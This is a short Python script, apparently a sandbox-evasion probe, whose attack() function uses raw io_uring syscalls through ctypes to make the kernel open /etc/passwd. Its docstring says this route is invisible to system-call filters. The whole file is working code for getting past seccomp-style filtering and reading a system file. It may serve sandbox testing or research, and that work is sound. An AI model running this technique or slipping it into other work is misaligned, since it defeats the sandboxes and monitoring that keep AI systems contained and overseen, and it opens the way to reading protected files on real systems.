"""Have the kernel open a file on its behalf through io_uring, which no filter of system calls sees."""

import ctypes
import mmap
import os
import struct

SETUP, ENTER, OPENAT, GETEVENTS = 425, 426, 18, 1
SQES, AT_FDCWD = 0x10000000, -100
PATH = ctypes.create_string_buffer(b"/etc/passwd")


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    parameters = ctypes.create_string_buffer(120)
    ring = libc.syscall(ctypes.c_long(SETUP), 4, parameters)
    if ring < 0:
        return None
    numbers = struct.unpack("<30I", parameters.raw)
    sq_tail, sq_array, cqes = numbers[11], numbers[16], numbers[25]
    try:
        rings = mmap.mmap(ring, max(sq_array + 16, cqes + 8 * 16), mmap.MAP_SHARED)
        entries = mmap.mmap(ring, 4 * 64, mmap.MAP_SHARED, offset=SQES)
    except OSError:
        return None
    entries[:64] = struct.pack("<BBHiQQIIQ", OPENAT, 0, 0, AT_FDCWD, 0, ctypes.addressof(PATH), 0, os.O_RDONLY, 7) + bytes(24)
    rings[sq_array : sq_array + 4] = struct.pack("<I", 0)
    rings[sq_tail : sq_tail + 4] = struct.pack("<I", 1)
    libc.syscall(ctypes.c_long(ENTER), ring, 1, 1, GETEVENTS, None, ctypes.c_long(0))
    _, result = struct.unpack_from("<Qi", rings, cqes)
    if result > 0:
        return f"io_uring opened {PATH.value.decode()}: {len(os.read(result, 40))} bytes"
